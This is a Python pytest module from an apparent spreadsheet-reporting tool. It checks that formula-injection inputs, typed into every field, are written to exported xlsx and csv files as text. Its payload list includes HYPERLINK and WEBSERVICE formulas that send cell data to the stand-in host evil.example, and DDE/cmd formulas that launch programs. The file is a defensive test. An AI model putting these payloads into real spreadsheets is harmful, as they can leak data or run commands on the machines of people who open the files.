"""Text that a spreadsheet takes for a formula goes through every field into every file we write, and stays text."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest
from lxml import etree

from tests.clock import in_december
from tests.workflow.desk import CYCLE, Desk, item, new_desk
from zwgk_excel.cli.main import run
from zwgk_excel.layout.words import word
from zwgk_excel.workflow.issuing.generation import generate

pytestmark = pytest.mark.slow

MARK = "INJECT"
FORMS = (
    f'=HYPERLINK("http://evil.example/?"&A1,"{MARK}")',
    f"=cmd|'/C calc'!{MARK}",
    f"+{MARK}+cmd|'/C calc'!A0",
    f"-2+3+{MARK}",
    f"@SUM(1+1)*{MARK}",
    f'\t=WEBSERVICE("http://evil.example/{MARK}")',
    f"＝1+{MARK}",
    f"{{=1+{MARK}}}",
    f'=DDE("cmd";"/C calc";"{MARK}")',
)
FIELDS = ("title", "doc_no", "section", "officer", "phone", "first_review", "second_review", "final_review", "remark")


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace after a month in which a unit put formulas into everything that it types, and all files of it."""
    desk: Desk = new_desk(tmp_path_factory.mktemp("month"))
    with desk.open() as office:
        generate(office, CYCLE, as_of=desk.now.date())
    items = [item("D02 政府采购", number) | dict.fromkeys(FIELDS, text) for number, text in enumerate(FORMS)]
    items.append(item("D02 政府采购", 90, url=f"=HYPERLINK(\"{MARK}\")", type=f"={MARK}", formed_on=f"={MARK}"))
    answers = {("D04", "2026-11"): {"status": word("answer", "nil"), "statement": FORMS[0], "remark": FORMS[1]}}
    reply = desk.reply("市财政局", f"={MARK}.xlsx", answers=answers, items=items)
    here = ("-w", str(desk.root))
    as_of = ("--as-of", "2026-12-03")
    assert run(["receive", str(reply), "--received-at", "2026-11-20T09:00", *here]) == 1
    assert run(["consolidate", *as_of, *here]) == 1
    for name in ("数据.xlsx", "数据.csv"):
        assert run(["export", "2026-11", "--to", str(desk.root / name), *as_of, *here]) == 0
    assert run(["escalate", str(CYCLE), "--export", *as_of, *here]) in (0, 1)
    with pytest.MonkeyPatch.context() as patch:
        in_december(patch)
        assert run(["rollup", str(desk.root), "--to", str(desk.root.parent / "全市"), *as_of]) in (0, 1)
    return desk.root


def workbooks(root: Path) -> list[Path]:
    """Every workbook that left the program for somebody else."""
    found = [*root.parent.rglob("*.xlsx")]
    return [path for path in found if "收件箱" not in path.parts and "attachments" not in path.parts]


def formulas(path: Path) -> list[str]:
    """Every formula, link target and condition of a workbook's sheets that holds the mark."""
    with zipfile.ZipFile(path) as package:
        parts = {name: package.read(name) for name in package.namelist() if name.endswith((".xml", ".rels"))}
    found = []
    for name, data in parts.items():
        for node in etree.fromstring(data).iter():
            local = etree.QName(node).localname if isinstance(node.tag, str) else ""
            if local in ("f", "formula", "formula1", "formula2", "definedName") and MARK in (node.text or ""):
                found.append(f"{name}: {node.text}")
            if local == "Relationship" and node.get("TargetMode") == "External" and MARK in node.get("Target", ""):
                target = node.get("Target", "")
                if not target.endswith(f"={MARK}.xlsx"):
                    found.append(f"{name}: {target}")
    return found


def test_no_workbook_computes_what_a_stranger_typed(root):
    written = workbooks(root)
    assert {"总台账.xlsx", "数据.xlsx"} <= {path.name for path in written}
    assert [found for path in written for found in formulas(path)] == []
    texts = [data for path in written for data in all_text(path) if MARK in data]
    assert texts, "it is there, as text"


def all_text(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as package:
        return [package.read(name).decode("utf-8", "replace") for name in package.namelist() if name.endswith(".xml")]


def test_no_csv_cell_begins_as_a_formula(root):
    cells = [
        cell
        for path in (root / "数据").glob("*.csv")
        for row in csv.reader(path.open(encoding="utf-8-sig", newline=""))
        for cell in row
    ]
    hit = [cell for cell in cells if MARK in cell]
    assert len(hit) > len(FORMS)
    assert [cell for cell in hit if cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))] == []
